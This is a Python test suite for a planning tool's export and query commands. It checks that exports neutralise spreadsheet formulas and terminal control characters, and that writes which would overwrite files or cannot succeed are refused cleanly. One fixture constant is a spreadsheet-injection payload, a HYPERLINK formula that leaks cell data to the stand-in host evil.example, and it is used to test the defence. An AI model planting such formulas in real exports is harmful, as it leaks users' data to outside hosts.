"""What users export cannot attack them, and an export refuses what it cannot write.

Event text is written by senders we do not control: a ``group_id`` that
starts with ``=`` must not become a live formula in a spreadsheet, and a
control character must neither crash the xlsx writer nor reach a terminal.
An export never overwrites a file silently, and a target it cannot write is
refused with exit 4 (CANNOT_WRITE) and a message, not a traceback.
"""

from __future__ import annotations

import csv
import errno
from collections.abc import Iterator
from pathlib import Path

import pytest

from events.home import PlanningHome
from pipelines.cli.main import main
from pipelines.orchestration.runs import build
from pipelines.exit_codes import ExitCode
from projections.connection import connect
from tests.support.events import make_event, write_jsonl
from tests.support.home import use_home

CYCLE = "2027-28"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
PLUS = "+1-555-0100"
ESCAPE = "cpcg\x1b[31mred\x07bell"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PlanningHome]:
    """A cycle whose group meetings carry a formula, a leading plus, and ANSI and BEL control characters."""
    root = tmp_path_factory.mktemp("hostile") / "planning-home"
    events = [
        make_event("cycle.opened", {"timetable": []}, occurred_at="2026-02-15T09:00:00Z"),
        make_event("group.meeting_held", {"group_id": FORMULA}),
        make_event("group.meeting_held", {"group_id": PLUS}),
        make_event("group.meeting_held", {"group_id": ESCAPE}),
    ]
    with pytest.MonkeyPatch.context() as patch:
        home = use_home(patch, root)
        assert main(["ingest", "--recorded-at", "2026-11-20T09:00:00Z", str(write_jsonl(root.parent / "events.jsonl", events))]) == 0
        build(home, on="2026-11-23", as_of="2026-11-23T12:00:00Z")  # current, at pinned instants
        yield home


def export(*options: str) -> int:
    return main(["export", "--cycle", CYCLE, *options])


def test_csv_export_neutralises_formulas_and_control_characters(hostile: PlanningHome, tmp_path: Path) -> None:
    assert export("--format", "csv", "--to", str(tmp_path)) == 0
    text = (tmp_path / "group_activity.csv").read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x07" not in text
    rows = list(csv.DictReader(text.splitlines()))
    groups = {row["group_id"] for row in rows}
    assert groups == {"'" + FORMULA, "'" + PLUS, "cpcg\\x1b[31mred\\x07bell"}
    # numbers stay numbers: attendance is written as it is, not as text
    assert all(row["attendance"].lstrip("-").isdigit() for row in rows)


def test_xlsx_cells_are_text_never_formulas(hostile: PlanningHome, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    assert export("--format", "xlsx", "--to", str(tmp_path)) == 0  # a control character used to crash it
    sheet = load_workbook(tmp_path / f"panel-{CYCLE}.xlsx")["group_activity"]
    header = [c.value for c in sheet[1]]
    cells = {c.value: c for c in (row[header.index("group_id")] for row in sheet.iter_rows(min_row=2))}
    assert set(cells) == {FORMULA, PLUS, "cpcg\\x1b[31mred\\x07bell"}
    assert all(c.data_type == "s" for c in cells.values())
    assert cells[FORMULA].quotePrefix and cells[PLUS].quotePrefix
    attendance = [row[header.index("attendance")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in attendance)


def test_parquet_export_keeps_values_intact(hostile: PlanningHome, tmp_path: Path) -> None:
    assert export("--format", "parquet", "--to", str(tmp_path)) == 0
    with connect() as db:
        groups = {r[0] for r in db.execute("SELECT group_id FROM read_parquet(?)", [str(tmp_path / "group_activity.parquet")]).fetchall()}
    assert groups == {FORMULA, PLUS, ESCAPE}


def test_query_csv_and_table_are_neutralised_too(hostile: PlanningHome, capsys: pytest.CaptureFixture) -> None:
    capsys.readouterr()
    assert main(["query", "group_activity", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    groups = {row["group_id"] for row in csv.DictReader(out.splitlines())}
    assert groups == {"'" + FORMULA, "'" + PLUS, "cpcg\\x1b[31mred\\x07bell"}
    assert main(["query", "group_activity"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "cpcg\\x1b[31mred" in out
    assert main(["sql", "SELECT group_id FROM group_activity ORDER BY group_id"]) == 0
    assert "\x1b" not in capsys.readouterr().out
    assert main(["query", "group_activity", "--format", "json"]) == 0
    assert "\\u001b" in capsys.readouterr().out  # JSON keeps the value, escaped as JSON does


def test_export_refuses_to_overwrite_a_file_it_did_not_create(hostile: PlanningHome, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    theirs = tmp_path / "group_activity.csv"
    theirs.write_text("someone else's work\n")
    capsys.readouterr()
    assert export("--format", "csv", "--to", str(tmp_path)) == ExitCode.CANNOT_WRITE == 4
    err = capsys.readouterr().err
    assert "group_activity.csv" in err and "remove them or choose another directory" in err and "--overwrite" in err
    assert theirs.read_text() == "someone else's work\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["group_activity.csv"]  # nothing else written either
    assert export("--format", "csv", "--to", str(tmp_path), "--overwrite") == 0
    assert theirs.read_text().startswith("cycle,")


@pytest.mark.parametrize("target", ["/dev/null", "/proc/self/planning-export", "a file"])
def test_export_to_a_place_that_cannot_hold_it_is_refused(
    target: str, hostile: PlanningHome, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    if target == "a file":
        (tmp_path / "a-file").write_text("keep me\n")
        target = str(tmp_path / "a-file")
    capsys.readouterr()
    assert export("--format", "csv", "--to", target) == ExitCode.CANNOT_WRITE
    err = capsys.readouterr().err
    assert err.startswith("planning export: ") and "Traceback" not in err and target in err
    if target.endswith("a-file"):
        assert Path(target).read_text() == "keep me\n"


def test_a_full_disk_is_refused_cleanly(hostile: PlanningHome, tmp_path: Path, capsys: pytest.CaptureFixture,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """ENOSPC is injected at the CSV writer (no small file system can be mounted here)."""
    import projections.reading.exports as exports

    real_writer = csv.writer

    class FullDisk:
        def __init__(self, out: object) -> None:
            self.writer = real_writer(out)

        def writerow(self, row: object) -> None:
            self.writer.writerow(row)

        def writerows(self, rows: object) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(exports.csv, "writer", FullDisk)
    capsys.readouterr()
    assert export("--format", "csv", "--to", str(tmp_path / "out")) == ExitCode.CANNOT_WRITE
    err = capsys.readouterr().err
    assert "the disk is full" in err and "Traceback" not in err
    assert list((tmp_path / "out").iterdir()) == []  # no half-written or temporary file left
